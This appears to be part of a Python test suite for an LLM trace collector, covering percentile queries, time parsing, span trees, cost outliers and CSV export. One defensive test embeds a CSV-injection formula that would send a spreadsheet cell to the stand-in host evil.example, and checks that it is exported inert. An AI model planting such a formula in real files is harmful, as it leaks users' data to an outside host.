    rows = [(n, rng.choice([rng.uniform(-5, 5), float(rng.randrange(4)), None]))
            for n in range(1, 121) for _ in range(n)]
    got = {g: [rank_of(values, p) for p in FRACTIONS]
           for (g,), (_, (values,)) in sorted_by_key(rows, 1).items()}
    engine = sa.create_engine(postgres_db)
    try:
        with engine.connect() as conn:
            conn.exec_driver_sql("CREATE TEMP TABLE t (g INTEGER, x DOUBLE PRECISION)")
            conn.execute(sa.text("INSERT INTO t VALUES (:g, :x)"), [{"g": g, "x": x} for g, x in rows])
            array = ",".join(repr(p) for p in FRACTIONS)
            expected = {g: list(v) if v else [None] * len(FRACTIONS) for g, v in conn.exec_driver_sql(
                f"SELECT g, percentile_disc(ARRAY[{array}]) WITHIN GROUP (ORDER BY x) FROM t GROUP BY g")}
    finally:
        engine.dispose()
    assert got == expected


@pytest.mark.parametrize("text,expected", [
    ("2026-11-01", "2026-11-01T00:00:00Z"),
    ("2026-11-01T12:30", "2026-11-01T12:30:00Z"),
    ("2026-11-01T12:30:00Z", "2026-11-01T12:30:00Z"),
    ("2026-11-01T12:30:00+02:00", "2026-11-01T10:30:00Z"),
])
def test_absolute_times_are_utc_unless_an_offset_says_otherwise(text, expected):
    from collector.query.args import time_arg

    assert iso(time_arg(text)) == expected


def test_relative_times_count_back_from_now():
    import time

    from collector.query.args import time_arg

    for text, seconds in (("90m", 5400), ("24h", 86400), ("30d", 2592000), ("2w", 1209600)):
        assert abs((time.time_ns() - time_arg(text)) / 1e9 - seconds) < 5


def test_span_tree_survives_cycles_orphans_and_deep_chains():
    """Broken or huge traces still show every span once (the tree is built from stored parents,
    which a buggy client can get wrong)."""
    from collector.query.render import _tree_order

    def span(sid, parent):
        return {"span_id": sid, "parent_span_id": parent}

    order = _tree_order([span("r", None), span("a", "r"), span("b", "r"), span("c", "a"),
                         span("x", "y"), span("y", "x"), span("o", "missing")])
    assert [(s["span_id"], prefix) for s, prefix in order] == [
        ("r", ""), ("a", "├─ "), ("c", "│  └─ "), ("b", "└─ "), ("o", ""), ("x", ""), ("y", "└─ ")]
    deep = [span("0", None)] + [span(str(i), str(i - 1)) for i in range(1, 20000)]
    order = _tree_order(deep)
    assert [s["span_id"] for s, _ in order] == [str(i) for i in range(20000)]
    assert max(len(prefix) for _, prefix in order) <= 63


# -- unknown values and outliers (issue 22) -------------------------------------------------------

def _small_db(tmp_path, costs: list[float | None], tokens: bool = True) -> str:
    """A SQLite file written by the exporter: one single-span trace per cost (None = unpriced)."""
    from tests.storage_helpers import batch, llm, make_exporter, span

    db = tmp_path / "small.db"
    exporter = make_exporter({"type": "sqlite", "path": str(db)})
    spans = []
    for i, cost in enumerate(costs, start=1):
        g = llm(cost=cost, session=f"s{i}") if tokens else llm(cost=cost, session=f"s{i}", input_tokens=None,
                                                                output_tokens=None)
        if cost is None:
            g.cost_usd = None
        spans.append(span(i, i, start_s=1_700_000_000 + i, duration_s=1.0, genai=g))
    exporter.export(batch(*spans))
    exporter.shutdown()
    return str(db)


def test_equal_costs_are_not_all_expensive_but_an_outlier_is(tmp_path):
    equal = _small_db(tmp_path, [0.01] * 40)
    result = json.loads(run("eval-candidates", "--db", equal, "--format", "json", "--since", "2000-01-01").stdout)
    assert [c for c in result["candidates"] if "expensive" in c["reasons"]] == []
    assert [c for c in result["candidates"] if "slow" in c["reasons"]] == []  # equal durations too
    (tmp_path / "o").mkdir()
    outlier = _small_db(tmp_path / "o", [0.01] * 39 + [0.5])
    result = json.loads(run("eval-candidates", "--db", outlier, "--format", "json", "--since", "2000-01-01").stdout)
    assert [c["cost_usd"] for c in result["candidates"] if "expensive" in c["reasons"]] == [0.5]
    # an explicit threshold is taken as given
    result = json.loads(run("eval-candidates", "--db", equal, "--format", "json", "--since", "2000-01-01",
                            "--expensive-usd", "0.01", "--limit", "100").stdout)
    assert len([c for c in result["candidates"] if "expensive" in c["reasons"]]) == 40


def test_unknown_tokens_and_cost_print_as_a_dash(tmp_path):
    db = _small_db(tmp_path, [None], tokens=False)
    for argv in (["traces"], ["sessions"]):
        out = run(*argv, "--db", db, "--since", "2000-01-01").stdout
        row = [line for line in out.splitlines() if "s1" in line or "op" in line][-1]
        assert "0/0" not in row and "$0" not in row and " - " in row, out
    trace = run("trace", hexid_of(1), "--db", db).stdout
    assert "$0" not in trace and "0 tokens" not in trace, trace


def hexid_of(n: int) -> str:
    return n.to_bytes(16, "big").hex()


def test_export_csv_cells_a_spreadsheet_would_run_as_formulas_open_inert(tmp_path):
    """A prompt is anyone's text: ``=HYPERLINK(...)`` in a CSV cell is a live formula once the file
    is opened in a spreadsheet (OWASP CSV injection); it is written with a leading ``'``."""
    from tests.storage_helpers import batch, llm, make_exporter, span

    path = tmp_path / "formula.db"
    exporter = make_exporter({"type": "sqlite", "path": str(path)})
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    exporter.export(batch(span(1, 1, genai=llm(prompt=formula, answer="@SUM(A1:A9)")),
                          span(2, 2, genai=llm(prompt="plain question"))))
    exporter.shutdown()
    proc = run("export", "--format", "csv", "--db", str(path))
    assert proc.returncode == 0, proc.stderr
    rows = {r["trace_id"][-1]: r for r in csv.DictReader(io.StringIO(proc.stdout))}
    assert rows["1"]["prompt_preview"] == "'" + formula
    assert rows["1"]["response_preview"] == "'@SUM(A1:A9)"
    assert rows["2"]["prompt_preview"] == "plain question"
    assert float(rows["1"]["cost"]) == 0.01  # numbers stay numbers
